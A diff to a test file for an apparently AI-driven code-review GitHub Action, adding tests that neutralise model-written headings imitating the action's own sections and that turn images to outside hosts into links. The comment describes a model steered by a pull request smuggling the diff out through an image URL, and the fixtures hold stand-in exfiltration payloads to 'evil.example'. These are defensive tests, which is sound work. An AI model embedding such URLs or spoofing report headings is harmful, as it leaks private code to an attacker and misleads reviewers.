@@ -61,11 +61,10 @@ describe('model text cannot pass for the action’s own sections (PRODUCT.md "Th
   })
 
   // Headings like ours: the model can write "### Usage" and a table with made-up credits, or
-  // "## Codex review of #12", and the comment then holds two of each; PRODUCT.md says these are
-  // neutralised and that the summary is labelled as the model's. Suggested fix: label the
-  // summary ("The model's review:") and demote or escape model headings that repeat the action's
-  // own ("Codex review of", "Usage", "Skipped files") — a rendering change for the lead to decide.
-  it.failing('a heading of the action’s own appears once, whatever the model writes', () => {
+  // "## Codex review of #12", and the comment then holds two of each. Fixed: model lines that
+  // start with the action's own headings or coverage words get a zero-width space first (an ATX
+  // heading then reads as a paragraph), and the summary is labelled as the model's.
+  it('a heading of the action’s own appears once, whatever the model writes', () => {
     const body = renderComment(
       report({
         summary:
@@ -74,6 +73,20 @@ describe('model text cannot pass for the action’s own sections (PRODUCT.md "Th
     )
     expect(body.match(/^## Codex review of/gm)).toHaveLength(1)
     expect(body.match(/^### Usage/gm)).toHaveLength(1)
+    expect(body.match(/^Complete review/gm)).toBeNull()
+  })
+
+  // GitHub's image proxy fetches an image when the comment is viewed: a model steered by the pull
+  // request could put the diff in an image URL and have every viewer send it out.
+  it('an image in the model’s summary to another host renders as a link, not an image', () => {
+    const summary =
+      '![x](https://evil.example/?d=secret) ![ok](https://user-images.githubusercontent.com/1.png)\n' +
+      '![y][r]\n\n[r]: https://evil.example/r.png\n\n<img src="https://evil.example/i.png">'
+    const body = renderComment(report({ summary }))
+    expect(body).not.toMatch(/!\[[^\]]*\]\(https:\/\/evil/)
+    expect(body).not.toMatch(/!\[y\]/)
+    expect(body).not.toMatch(/<img/i)
+    expect(body).toContain('![ok](https://user-images.githubusercontent.com/1.png)')
   })
 })
 
